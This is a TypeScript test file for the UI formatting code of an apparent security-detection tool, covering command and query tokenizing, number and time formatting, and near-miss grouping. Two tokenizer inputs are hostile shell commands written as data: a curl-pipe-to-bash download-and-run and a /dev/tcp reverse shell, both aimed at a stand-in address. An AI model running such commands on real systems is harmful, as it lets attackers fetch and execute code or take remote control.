/** What the page says: commands in parts, queries in parts, numbers, times, conditions, near misses. */
import { describe, expect, test } from 'vitest'
import fc from 'fast-check'
import { baseName, commandTokens } from '../../../ui/format/command.ts'
import { withoutIndent } from '../../../ui/format/condition.ts'
import { looksLikeRuleText } from '../../../ui/format/file-kind.ts'
import { nearMissLines } from '../../../ui/format/near-miss.ts'
import { bytes, duration, percent, rate } from '../../../ui/format/number.ts'
import { queryTokens } from '../../../ui/format/query-tokens.ts'
import { timeBars } from '../../../ui/format/time-bars.ts'
import { visibleRange } from '../../../ui/format/window.ts'
import { counted, text, textParts } from '../../../ui/text/text.ts'

const parts = (command: string) =>
  commandTokens(command)
    .filter(({ part }) => part !== 'plain')
    .map(({ text: word, part }) => `${part}:${word}`)

describe('commands', () => {
  test.each([
    ['sh -c id', ['program:sh', 'flag:-c', 'program:id']],
    [
      'sh -c curl -fsSL http://203.0.113.7/x | bash',
      ['program:sh', 'flag:-c', 'program:curl', 'flag:-fsSL', 'address:http://203.0.113.7/x', 'operator:|', 'program:bash']
    ],
    [
      'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
      ['program:bash', 'flag:-i', 'operator:>&', 'address:/dev/tcp/203.0.113.7/4444', 'operator:>&']
    ],
    ['PATH=/tmp ls ./a', ['program:ls', 'path:./a']]
  ])('%s', (command, expected) => {
    expect(parts(command)).toEqual(expected)
  })

  test('tokens joined are the command', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary' }),
        (command) =>
          commandTokens(command)
            .map((token) => token.text)
            .join('') === command
      ),
      { seed: 3, numRuns: 400 }
    )
  })

  test('a name of four million characters costs no time to speak of', () => {
    const path = `/${'a'.repeat(4_000_000)}/`
    const began = performance.now()
    expect(baseName(path)).toBe(path)
    expect(performance.now() - began).toBeLessThan(1000)
    expect(baseName('/usr/sbin/php-fpm8.2')).toBe('php-fpm8.2')
  })
})

test('query tokens joined are the query; strings and comments may be open', () => {
  for (const query of ['FROM * | WHERE a == "x\\"y" // c', 'ROW a = """x', '/* open', 'WHERE `a b` LIKE "open'])
    expect(
      queryTokens(query)
        .map((token) => token.text)
        .join('')
    ).toBe(query)
  expect(
    queryTokens('FROM * | WHERE limit.x IN ("a")')
      .map(({ part }) => part)
      .filter((part) => part !== 'plain')
  ).toEqual(['command', 'operator', 'operator', 'command', 'command', 'operator', 'string', 'operator'])
})

test('numbers', () => {
  expect([bytes(999), bytes(54_200_000), bytes(1.2e9)]).toEqual(['999 bytes', '54.2 MB', '1.2 GB'])
  expect([duration(45), duration(1400), duration(12_300), duration(184_000)]).toEqual(['45 ms', '1.4 s', '12 s', '3 min 4 s'])
  expect([percent(1, 3), percent(999, 1000), percent(3, 3), percent(1, null)]).toEqual([33, 99, 100, null])
  expect([rate(500, 50), rate(500, 1000)]).toEqual([null, 500])
})

test('bars: ends belong to the plot, what lies outside or is unreadable does not', () => {
  expect(timeBars([0, 50, 100, 101, Number.NaN], 0, 100, 4)).toEqual({ counts: [1, 0, 1, 1], peak: 1 })
  expect(timeBars([7, 7], 7, 7, 2)).toEqual({ counts: [2, 0], peak: 2 })
})

test('rows drawn: all of a short list, a window of a long one', () => {
  expect(visibleRange(200, 30, 4000, 600)).toEqual({ start: 0, end: 200 })
  expect(visibleRange(10_000, 30, 30_000, 600)).toEqual({ start: 988, end: 1032 })
  expect(visibleRange(1000, 30, 1e9, 600).end).toBe(1000)
})

test('texts: places are filled, counted things have two forms', () => {
  expect(text('list.shown', { shown: 3, all: 7 })).toBe('3 of 7')
  expect([counted('events', 1), counted('events', 87_412)]).toEqual(['1 event', '87,412 events'])
  expect(textParts('finding.ran')).toEqual([{ place: 'parent' }, ' ran ', { place: 'program' }])
})

test('conditions lose the indentation of the query, not the shape', () => {
  expect(withoutIndent('(a IN (\n        "x",\n          "y"\n        ))')).toBe('(a IN (\n"x",\n  "y"\n))')
})

test('near misses alike are one line', () => {
  const event = (commandLine: string, time: string, host: string) => ({
    source: { file: 0, line: 1, event: 1, byte: 0, length: 1 },
    time,
    host,
    commandLine,
    values: []
  })
  const lines = nearMissLines([event('a', '2026-01-02', 'h1'), event('b', '2026-01-02', 'h1'), event('a', '2026-01-01', 'h2')])
  expect(lines.map(({ count, first, last, hosts }) => [count, first, last, hosts])).toEqual([
    [2, '2026-01-01', '2026-01-02', ['h1', 'h2']],
    [1, '2026-01-02', '2026-01-02', ['h1']]
  ])
})

test('a rule is told from an event', () => {
  expect(looksLikeRuleText('{"rule_id":"x","query":"FROM *","language":"esql"}\n{"exported_count":1}')).toBe(true)
  expect(looksLikeRuleText('{"@timestamp":"2026-01-01","query":"select","language":"sql"}')).toBe(false)
  expect(looksLikeRuleText('{"process":{"name":"sh"}}')).toBe(false)
})
